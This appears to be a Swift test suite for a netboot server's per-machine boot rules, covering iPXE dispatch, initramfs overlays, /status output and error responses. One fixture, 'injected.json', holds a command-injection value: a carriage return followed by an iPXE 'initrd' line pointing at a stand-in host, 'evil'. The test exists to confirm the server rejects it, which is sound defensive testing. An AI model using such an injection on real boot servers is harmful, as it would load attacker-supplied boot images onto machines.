import Foundation
import NetbootHost
import XCTest

/// The machine source in the server binary, over real TCP with curl: `/boot.ipxe`, dispatch by MAC,
/// the script with the rule's additions, the overlay, waiting and tie scripts, edits seen at the next
/// request, `/status`.
final class MachineLiveTests: XCTestCase {
    struct Answer {
        var status: Int
        var headers: [String: String]
        var body: Data
        var text: String { String(decoding: body, as: UTF8.self) }
    }

    func get(_ url: String) throws -> Answer {
        let dir = try makeTemporaryDirectory(self, "get")
        let status = try shellString("curl -sS -o \(dir)/body -D \(dir)/headers -w '%{http_code}' '\(url)'")
        var headers: [String: String] = [:]
        for line in try String(contentsOfFile: dir + "/headers", encoding: .utf8).split(separator: "\r\n") {
            let parts = line.split(separator: ":", maxSplits: 1)
            if parts.count == 2 { headers[parts[0].lowercased()] = parts[1].trimmingCharacters(in: .whitespaces) }
        }
        return Answer(status: Int(status) ?? 0, headers: headers, body: try Data(contentsOf: URL(fileURLWithPath: dir + "/body")))
    }

    func write(_ json: String, _ name: String, in state: String) throws {
        try json.write(toFile: state + "/machines/" + name, atomically: true, encoding: .utf8)
    }

    static let identity = "uuid=&serial=&hostname=&arch=x86_64&platform=pcbios"

    func testMachinesBootTheirOwnRuleWithTheirOwnAdditions() throws {
        let a = PackFixtures.shared.system
        let b = try PackFixtures.build(salt: "machine-b").system
        let state = try makeTemporaryDirectory(self, "state")
        try FileManager.default.createDirectory(atPath: state + "/machines", withIntermediateDirectories: true)
        try write(
            #"""
            {"match": {"mac": "52:54:00:AA:00:01"}, "boot": "closure/\#(a.name)", "cmdline": "nns.machine=a",
             "files": {"/etc/netboot-machine": "node-a\n", "/root/.ssh/authorized_keys": {"text": "ssh-ed25519 AAAA admin", "mode": "0600"}},
             "directories": {"/root": "0700", "/root/.ssh": "0700"}}
            """#, "node-a.json", in: state)
        try write(#"{"match": {}, "boot": "closure/\#(b.name)"}"#, "default.json", in: state)
        try write(#"{"match": {"mac": "52:54:00:aa:00:01"}, "boot": "closure/\#(a.name)", "cmdline": "a\rinitrd http://evil/x"}"#, "injected.json", in: state)
        try write(#"{"match": {}, "boot": "flake/infra/x"}"#, "elsewhere.json", in: state)
        try write(#"{"match": {}, "boot": "closure/\#(a.name)", "files": {"/nix/store/x": "y"}}"#, "store.json", in: state)
        let server = try ServerProcess(self, arguments: ["--state-dir", state])
        let base = server.base

        // The entry script: a relative chain, the query kept.
        let entry = try get("\(base)/boot.ipxe?cmdline_suffix_args=nns.suffix%3D1")
        XCTAssertEqual(entry.status, 200)
        XCTAssertEqual(entry.headers["cache-control"], "no-store")
        XCTAssertEqual(entry.text, """
            #!ipxe
            chain --autofree /dispatch/machine?mac=${net0/mac:hexhyp}&uuid=${uuid}&serial=${serial:uristring}&hostname=${hostname:uristring}&arch=${buildarch}&platform=${platform}&cmdline_suffix_args=nns.suffix%3D1

            """)

        // Machine A: its rule, its system, its additions; a boot_additions of the client's own is dropped.
        let dispatch = try get("\(base)/dispatch/machine?mac=52-54-00-aa-00-01&\(Self.identity)&cmdline_suffix_args=nns.suffix%3D1&boot_additions=machine%2Fdefault")
        XCTAssertEqual(dispatch.status, 302, dispatch.text)
        let location = try XCTUnwrap(dispatch.headers["location"])
        XCTAssertEqual(location, "/boot/\(a.name)/netboot.ipxe?mac=52-54-00-aa-00-01&\(Self.identity)&cmdline_suffix_args=nns.suffix%3D1&boot_additions=machine%2Fnode-a")
        let script = try get(base + location).text
        let params = try String(contentsOfFile: a.absolutePath + "/kernel-params", encoding: .utf8).split(whereSeparator: \.isWhitespace).joined(separator: " ")
        XCTAssertEqual(script, """
            #!ipxe
            echo Booting NixOS closure \(a.name).
            kernel bzImage initrd=initrd initrd=overlay rdinit=\(a.absolutePath)/init \(params) nns.machine=a nns.suffix=1
            initrd initrd
            initrd --name overlay /overlay/machine/node-a
            boot

            """)
        XCTAssertTrue(try GCRootCheck.pinned(a, state: state), "the system is pinned as for any dispatch")

        // The overlay: compressed with the server's codec, never cached, read as the kernel would.
        let overlay = try get("\(base)/overlay/machine/node-a")
        XCTAssertEqual(overlay.status, 200)
        XCTAssertEqual(overlay.headers["cache-control"], "no-store")
        XCTAssertNil(overlay.headers["etag"])
        let unpacked = try KernelInitramfs.parse(Array(overlay.body))
        XCTAssertEqual(unpacked.members.map(\.compression), [.zstd])
        XCTAssertEqual(unpacked.tree["etc/netboot-machine"]?.data, Array("node-a\n".utf8))
        XCTAssertEqual(unpacked.tree["root"]?.permissions, 0o700)
        XCTAssertEqual(unpacked.tree["root/.ssh/authorized_keys"]?.permissions, 0o600)
        XCTAssertEqual(Set(unpacked.tree.keys), ["etc", "etc/netboot-machine", "root", "root/.ssh", "root/.ssh/authorized_keys"])

        // The shared initrd is the same for every machine, and no overlay entered the cache.
        let initrd = try get("\(base)/boot/\(a.name)/initrd")
        let plain = try get("\(base)/boot/\(a.name)/initrd")
        XCTAssertEqual(initrd.body, plain.body)
        XCTAssertEqual(initrd.headers["etag"], plain.headers["etag"])
        XCTAssertNil(KernelInitramfs.find("etc/netboot-machine", in: try KernelInitramfs.parse(Array(initrd.body))))
        let cacheFiles = try FileManager.default.contentsOfDirectory(atPath: state + "/cpio-cache").filter { !$0.hasPrefix(".") }
        let closureCount = try shellString("nix-store -qR \(a.absolutePath) | wc -l")
        XCTAssertEqual("\(cacheFiles.count)", closureCount, "the cache holds the closure's archives only: \(cacheFiles)")

        // Another machine: the default rule, another system, no overlay.
        let other = try get("\(base)/dispatch/machine?mac=52-54-00-aa-00-02&\(Self.identity)")
        XCTAssertEqual(other.headers["location"], "/boot/\(b.name)/netboot.ipxe?mac=52-54-00-aa-00-02&\(Self.identity)&boot_additions=machine%2Fdefault")
        let otherScript = try get(base + (other.headers["location"] ?? "")).text
        XCTAssertTrue(otherScript.contains("kernel bzImage initrd=initrd rdinit="), otherScript)
        XCTAssertFalse(otherScript.contains("overlay"), otherScript)

        // /status: the rules (never the files' contents), the skipped files, the last boots.
        let status = try get("\(base)/status").text
        XCTAssertTrue(status.hasPrefix("codec zstd level 10\narchives-packed "), status)
        XCTAssertTrue(status.contains("machine-rule node-a match mac=52:54:00:aa:00:01 boot closure/\(a.name) cmdline-bytes 13 files 2\n"), status)
        XCTAssertTrue(status.contains("machine-rule default match any boot closure/\(b.name) cmdline-bytes 0 files 0\n"), status)
        XCTAssertTrue(status.contains("machine-rule-invalid injected.json cmdline holds a CR"), status)
        XCTAssertTrue(status.contains("machine-rule-invalid elsewhere.json boot names the source 'flake', which this server does not have"), status)
        XCTAssertTrue(status.contains("machine-rule-invalid store.json path '/nix/store/x' is /nix or inside it"), status)
        XCTAssertTrue(status.range(of: #"machine-boot 52:54:00:aa:00:01 at 20\d\d-\d\d-\d\dT\d\d:\d\d:\d\dZ client 127\.0\.0\.1 rule node-a path "# + a.name, options: .regularExpression) != nil, status)
        XCTAssertTrue(status.contains("machine-boot 52:54:00:aa:00:02 at "), status)
        XCTAssertFalse(status.contains("node-a\\n") || status.contains("ssh-ed25519"), "no file contents in /status")
        XCTAssertFalse(status.contains(state), "no server path in /status")
        for file in ["injected.json", "elsewhere.json", "store.json"] {
            XCTAssertTrue(server.log.contains("\(state)/machines/\(file)") && server.log.contains("machine rule skipped"), "the log names \(file)")
        }

        // A tie is shown to the machine (both files named) and logged; never a guess.
        try write(#"{"match": {"uuid": "6B29FC40-CA47-1067-B31D-00DD010662DA"}, "boot": "closure/\#(a.name)"}"#, "uuid-1.json", in: state)
        try write(#"{"match": {"platform": "pcbios"}, "boot": "closure/\#(b.name)"}"#, "bios.json", in: state)
        let tie = try get("\(base)/dispatch/machine?mac=52-54-00-aa-00-03&uuid=6b29fc40-ca47-1067-b31d-00dd010662da&platform=pcbios")
        XCTAssertEqual(tie.status, 200)
        XCTAssertEqual(tie.headers["cache-control"], "no-store")
        XCTAssertTrue(tie.text.contains("echo Machine rules bios.json and uuid-1.json match this machine equally (52:54:00:aa:00:03)."), tie.text)
        XCTAssertTrue(tie.text.contains("sleep 30\nchain --autofree http://127.0.0.1:\(server.port)/dispatch/machine?mac=52-54-00-aa-00-03&"), tie.text)
        XCTAssertTrue(server.log.contains("files=\(state)/machines/bios.json \(state)/machines/uuid-1.json"), server.log)

        // An unknown machine waits, told which file to create; the rule added, its next request boots.
        try FileManager.default.removeItem(atPath: state + "/machines/default.json")
        try FileManager.default.removeItem(atPath: state + "/machines/bios.json")
        let waiting = try get("\(base)/dispatch/machine?mac=52-54-00-aa-00-04&uuid=11111111-2222-3333-4444-555555555555&platform=efi")
        XCTAssertEqual(waiting.status, 200)
        XCTAssertEqual(waiting.text, """
            #!ipxe
            echo No machine rule matches this machine: MAC 52:54:00:aa:00:04, UUID 11111111-2222-3333-4444-555555555555.
            echo To boot it, create machines/52-54-00-aa-00-04.json on the server, matching mac 52:54:00:aa:00:04 and naming what to boot,
            echo for example profile/NAME. This machine asks again by itself.
            echo Trying again in 30 seconds.
            sleep 30
            chain --autofree http://127.0.0.1:\(server.port)/dispatch/machine?mac=52-54-00-aa-00-04&uuid=11111111-2222-3333-4444-555555555555&platform=efi

            """)
        XCTAssertTrue(server.log.contains("create=\(state)/machines/52-54-00-aa-00-04.json"), server.log)
        try write(#"{"match": {"mac": "52-54-00-AA-00-04"}, "boot": "closure/\#(b.name)", "cmdline": "nns.machine=four"}"#, "52-54-00-aa-00-04.json", in: state)
        let now = try get("\(base)/dispatch/machine?mac=52-54-00-aa-00-04&uuid=11111111-2222-3333-4444-555555555555&platform=efi")
        XCTAssertEqual(now.status, 302, now.text)
        XCTAssertTrue(now.headers["location"]?.hasSuffix("boot_additions=machine%2F52-54-00-aa-00-04") == true)

        // An edited rule is what the next script and overlay give, whatever the URL says.
        try write(
            #"{"match": {"mac": "52:54:00:AA:00:01"}, "boot": "closure/\#(a.name)", "cmdline": "nns.machine=a2", "files": {"/etc/netboot-machine": "node-a2\n"}}"#,
            "node-a.json", in: state)
        XCTAssertTrue(try get(base + location).text.contains(" nns.machine=a2 nns.suffix=1\n"))
        XCTAssertEqual(try KernelInitramfs.parse(Array(try get("\(base)/overlay/machine/node-a").body)).tree["etc/netboot-machine"]?.data, Array("node-a2\n".utf8))

        // Refusals: a clear 4xx, one line.
        XCTAssertEqual(try get("\(base)/overlay/machine/gone").status, 404)
        XCTAssertEqual(try get("\(base)/overlay/machine/store").status, 404, "a skipped rule has no overlay")
        XCTAssertEqual(try get("\(base)/overlay/closure/x").status, 404)
        XCTAssertEqual(try get("\(base)/boot/\(a.name)/netboot.ipxe?boot_additions=machine%2Fgone").status, 404)
        XCTAssertEqual(try get("\(base)/boot/\(a.name)/netboot.ipxe?boot_additions=nonsense").status, 400)
        XCTAssertEqual(try get("\(base)/dispatch/machine?mac=nonsense").text, "mac 'nonsense' is not a valid mac\n")
        XCTAssertEqual(try get("\(base)/dispatch/machine/x").status, 400)
        XCTAssertTrue(try get("\(base)/dispatch/closure").text.hasPrefix("no such page"), "other sources keep no route without a segment")
    }

    func testWithoutAMachinesDirectoryTheSourceIsOff() throws {
        let server = try ServerProcess(self, arguments: [])
        let answer = try get("\(server.base)/dispatch/machine?mac=52-54-00-aa-00-01")
        XCTAssertEqual(answer.status, 404)
        XCTAssertEqual(answer.text, "machine booting is not configured on this server (create STATE_DIR/machines, or give --machines-dir)\n")
        XCTAssertFalse(try get("\(server.base)/status").text.contains("machine-"))
        XCTAssertEqual(try get("\(server.base)/dispatch/machine?mac=1").status, 404, "off before anything is read")
    }

    func testATurnedOffMachineSourceSaysSoAndServesNoEntryScript() throws {
        let state = try makeTemporaryDirectory(self, "state")
        try FileManager.default.createDirectory(atPath: state + "/machines", withIntermediateDirectories: true)
        try #"{"boot": "closure/x"}"#.write(toFile: state + "/machines/default.json", atomically: true, encoding: .utf8)
        let server = try ServerProcess(self, arguments: ["--state-dir", state, "--disable-source", "machine"])
        XCTAssertEqual(try get("\(server.base)/dispatch/machine?mac=52-54-00-aa-00-01").text, "machine booting is turned off on this server\n")
        XCTAssertEqual(try get("\(server.base)/boot.ipxe").status, 404)
        XCTAssertEqual(try get("\(server.base)/overlay/machine/default").status, 404)
        XCTAssertFalse(try get("\(server.base)/status").text.contains("machine-"))
    }
}

enum GCRootCheck {
    /// Whether a GC root under the state directory points at `path`.
    static func pinned(_ path: StorePath, state: String) throws -> Bool {
        try shellString("find \(state)/gc-roots -type l -lname '\(path.absolutePath)' | wc -l") != "0"
    }
}

extension KernelInitramfs {
    static func find(_ path: String, in unpacked: KernelInitramfs) -> Entry? { unpacked.tree[path] }
}
